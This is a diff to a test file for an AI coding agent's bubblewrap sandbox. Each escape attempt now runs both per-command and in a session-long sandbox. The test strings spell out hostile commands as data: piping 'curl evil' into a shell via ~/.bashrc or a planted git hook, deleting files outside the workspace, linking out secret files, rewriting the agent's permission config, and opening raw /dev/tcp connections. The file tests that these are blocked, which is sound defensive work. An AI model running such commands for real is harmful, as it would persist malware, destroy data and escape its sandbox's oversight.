@@ -2,53 +2,57 @@
  * Escape attempts by commands, run the way the bash tool runs them: under
  * bubblewrap with the workspace-write settings. Each must fail, and the disk
  * outside the workspace (and the protected paths inside it) must be as it
- * was. Skipped loudly when bubblewrap is absent (see _harness.ts).
+ * was. Each runs twice: one bwrap per command, and in the session-long
+ * sandbox after it served a first command. Skipped loudly when bubblewrap is
+ * absent (see _harness.ts).
  */
 import * as path from "node:path";
 import { assert, assertEquals } from "../support/assert.ts";
 import {
+  blocked,
   type CommandResult,
   hasBwrap,
   type Layout,
   makeLayout,
   needsBwrap,
   runSandboxed,
-  snapshotAll,
+  unchangedBy,
 } from "./_harness.ts";
+import { runPooled } from "./_pooled_runner.ts";
+
+/** The runner of the test now running: one bwrap per command, or the session-long sandbox. */
+let run: typeof runSandboxed = runSandboxed;
+
+/**
+ * Registers each attempt twice: under one bwrap per command, and through the
+ * session-long sandbox (tests/escape/_pooled_runner.ts), the bash tool's path.
+ */
+function attack(definition: { name: string; ignore?: boolean }, body: () => Promise<void>) {
+  Deno.test(definition, () => {
+    run = runSandboxed;
+    return body();
+  });
+  Deno.test({ ...definition, name: `${definition.name} [session sandbox]` }, () => {
+    run = runPooled;
+    return body();
+  });
+}
 
 /** Run `command` sandboxed on a fresh layout; assert nothing on disk changed. */
-async function unchanged(
+function unchanged(
   command: (layout: Layout) => string,
   options: Parameters<typeof runSandboxed>[2] = {},
-  prepare: (layout: Layout) => void = () => {},
+  prepare?: (layout: Layout) => void,
 ): Promise<CommandResult> {
-  const layout = makeLayout();
-  try {
-    prepare(layout);
-    const before = snapshotAll(layout);
-    const result = await runSandboxed(layout, command(layout), options);
-    assertEquals(snapshotAll(layout), before, `something changed on disk: ${result.stderr}`);
-    return result;
-  } finally {
-    layout.cleanup();
-  }
+  return unchangedBy(run, command, options, prepare);
 }
 
-/** The command's last line of output must be "blocked", printed when its attempt failed. */
-function blocked(result: CommandResult) {
-  assertEquals(
-    result.stdout.trim().split("\n").pop(),
-    "blocked",
-    `output: ${result.stdout} ${result.stderr}`,
-  );
-}
-
-Deno.test(
+attack(
   { name: "escape/bwrap: the sandbox runs commands at all (control)", ...needsBwrap },
   async () => {
     const layout = makeLayout();
     try {
-      const result = await runSandboxed(layout, "echo made > src/made.txt && cat src/a.txt");
+      const result = await run(layout, "echo made > src/made.txt && cat src/a.txt");
       assertEquals([result.code, result.stdout], [0, "inside\n"]);
       assertEquals(Deno.readTextFileSync(path.join(layout.ws, "src", "made.txt")), "made\n");
     } finally {
@@ -57,29 +61,29 @@ Deno.test(
   },
 );
 
-Deno.test({ name: "escape/bwrap: write ../ outside the workspace", ...needsBwrap }, async () => {
+attack({ name: "escape/bwrap: write ../ outside the workspace", ...needsBwrap }, async () => {
   blocked(await unchanged(() => "echo x > ../outside/planted.txt 2>/dev/null || echo blocked"));
 });
 
-Deno.test({ name: "escape/bwrap: write an absolute path outside", ...needsBwrap }, async () => {
+attack({ name: "escape/bwrap: write an absolute path outside", ...needsBwrap }, async () => {
   blocked(await unchanged((l) => `echo x > ${l.outside}/planted.txt 2>/dev/null || echo blocked`));
 });
 
-Deno.test({ name: "escape/bwrap: overwrite a file outside", ...needsBwrap }, async () => {
+attack({ name: "escape/bwrap: overwrite a file outside", ...needsBwrap }, async () => {
   blocked(await unchanged((l) => `echo gone > ${l.secret} 2>/dev/null || echo blocked`));
 });
 
-Deno.test({ name: "escape/bwrap: append to ~/.bashrc", ...needsBwrap }, async () => {
+attack({ name: "escape/bwrap: append to ~/.bashrc", ...needsBwrap }, async () => {
   blocked(await unchanged(() => "echo 'curl evil | sh' >> ~/.bashrc 2>/dev/null || echo blocked"));
 });
 
-Deno.test({ name: "escape/bwrap: delete files outside", ...needsBwrap }, async () => {
+attack({ name: "escape/bwrap: delete files outside", ...needsBwrap }, async () => {
   blocked(
     await unchanged((l) => `rm -rf ${l.outside} 2>/dev/null; test -e ${l.secret} && echo blocked`),
   );
 });
 
-Deno.test(
+attack(
   { name: "escape/bwrap: write through a symlinked folder pointing out", ...needsBwrap },
   async () => {
     blocked(
@@ -92,13 +96,13 @@ Deno.test(
   },
 );
 
-Deno.test(
+attack(
   { name: "escape/bwrap: make a symlink out, then write through it", ...needsBwrap },
   async () => {
     const layout = makeLayout();
     try {
       const outsideBefore = Deno.readTextFileSync(layout.secret);
-      const result = await runSandboxed(
+      const result = await run(
         layout,
         `ln -s ${layout.outside} out && (echo x > out/planted.txt 2>/dev/null || echo blocked)`,
       );
@@ -111,14 +115,14 @@ Deno.test(
   },
 );
 
-Deno.test(
+attack(
   { name: "escape/bwrap: hard-link an outside file into the workspace", ...needsBwrap },
   async () => {
     blocked(await unchanged((l) => `ln ${l.secret} stolen.txt 2>/dev/null || echo blocked`));
   },
 );
 
-Deno.test({ name: "escape/bwrap: write through /proc/self/root", ...needsBwrap }, async () => {
+attack({ name: "escape/bwrap: write through /proc/self/root", ...needsBwrap }, async () => {
   blocked(
     await unchanged((l) =>
       `echo x > /proc/self/root${l.outside}/p.txt 2>/dev/null || echo blocked`
@@ -126,7 +130,7 @@ Deno.test({ name: "escape/bwrap: write through /proc/self/root", ...needsBwrap }
   );
 });
 
-Deno.test(
+attack(
   { name: "escape/bwrap: write through /proc/1/root (the sandbox's init)", ...needsBwrap },
   async () => {
     blocked(
@@ -135,7 +139,7 @@ Deno.test(
   },
 );
 
-Deno.test(
+attack(
   { name: "escape/bwrap: remount / read-write (capabilities dropped)", ...needsBwrap },
   async () => {
     blocked(
@@ -146,7 +150,7 @@ Deno.test(
   },
 );
 
-Deno.test({ name: "escape/bwrap: write .git/hooks/pre-commit", ...needsBwrap }, async () => {
+attack({ name: "escape/bwrap: write .git/hooks/pre-commit", ...needsBwrap }, async () => {
   blocked(
     await unchanged(() =>
       "(printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit) 2>/dev/null || echo blocked"
@@ -154,13 +158,13 @@ Deno.test({ name: "escape/bwrap: write .git/hooks/pre-commit", ...needsBwrap }, 
   );
 });
 
-Deno.test({ name: "escape/bwrap: replace the hooks folder wholesale", ...needsBwrap }, async () => {
+attack({ name: "escape/bwrap: replace the hooks folder wholesale", ...needsBwrap }, async () => {
   blocked(
     await unchanged(() => "(rm -rf .git/hooks && mkdir .git/hooks) 2>/dev/null || echo blocked"),
   );
 });
 
-Deno.test(
+attack(
   { name: "escape/bwrap: move .git aside and build a new one with hooks", ...needsBwrap },
   async () => {
     blocked(
@@ -171,7 +175,7 @@ Deno.test(
   },
 );
 
-Deno.test(
+attack(
   { name: "escape/bwrap: repoint a .git file (worktree) at planted hooks", ...needsBwrap },
   async () => {
     blocked(
@@ -187,7 +191,7 @@ Deno.test(
   },
 );
 
-Deno.test({ name: "escape/bwrap: set core.hooksPath in .git/config", ...needsBwrap }, async () => {
+attack({ name: "escape/bwrap: set core.hooksPath in .git/config", ...needsBwrap }, async () => {
   blocked(
     await unchanged(() =>
       "echo '[core] hooksPath = /tmp' >> .git/config 2>/dev/null || echo blocked"
@@ -195,7 +199,7 @@ Deno.test({ name: "escape/bwrap: set core.hooksPath in .git/config", ...needsBwr
   );
 });
 
-Deno.test(
+attack(
   { name: "escape/bwrap: rewrite skiff.json to allow everything", ...needsBwrap },
   async () => {
     blocked(
@@ -206,7 +210,7 @@ Deno.test(
   },
 );
 
-Deno.test({ name: "escape/bwrap: add an agent under .skiff/", ...needsBwrap }, async () => {
+attack({ name: "escape/bwrap: add an agent under .skiff/", ...needsBwrap }, async () => {
   blocked(
     await unchanged(() =>
       "(mkdir -p .skiff/agents && echo x > .skiff/agents/evil.md) 2>/dev/null || echo blocked"
@@ -214,7 +218,7 @@ Deno.test({ name: "escape/bwrap: add an agent under .skiff/", ...needsBwrap }, a
   );
 });
 
-Deno.test(
+attack(
   { name: "escape/bwrap: read-only mode refuses writes in the workspace", ...needsBwrap },
   async () => {
     blocked(
@@ -225,7 +229,7 @@ Deno.test(
   },
 );
 
-Deno.test(
+attack(
   { name: "escape/bwrap: /tmp is private, nothing lands in the real /tmp", ...needsBwrap },
   async () => {
     const marker = `/tmp/skiff-escape-${crypto.randomUUID()}`;
@@ -238,7 +242,7 @@ Deno.test(
   },
 );
 
-Deno.test(
+attack(
   { name: "escape/bwrap: the API key is not in the child's environment", ...needsBwrap },
   async () => {
     const previous = Deno.env.get("OPENAI_API_KEY");
@@ -258,7 +262,7 @@ Deno.test(
   },
 );
 
-Deno.test({
+attack({
   name: "escape/bwrap: the parent's processes are invisible and unkillable",
   ...needsBwrap,
 }, async () => {
@@ -280,7 +284,7 @@ function countingServer() {
 const httpGet = (host: string, port: number) =>
   `bash -c 'exec 3<>/dev/tcp/${host}/${port} && printf "GET / HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n" >&3 && cat <&3' 2>/dev/null || echo blocked`;
 
-Deno.test(
+attack(
   { name: "escape/bwrap: reaching 127.0.0.1 with the network off", ...needsBwrap },
   async () => {
     const server = countingServer();
@@ -300,7 +304,7 @@ Deno.test(
   },
 );
 
-Deno.test({
+attack({
   name: "escape/bwrap: reaching a hostname (localhost) with the network off",
   ...needsBwrap,
 }, async () => {
@@ -313,7 +317,7 @@ Deno.test({
   }
 });
 
-Deno.test(
+attack(
   { name: "escape/bwrap: resolving a public hostname with the network off", ...needsBwrap },
   async () => {
     blocked(
@@ -344,7 +348,7 @@ if (hasBwrap && !socketDir) {
   );
 }
 
-Deno.test({
+attack({
   name: "escape/bwrap: connecting to a host Unix socket under /run (Docker, session bus)",
   ignore: !hasBwrap || !socketDir,
 }, async () => {
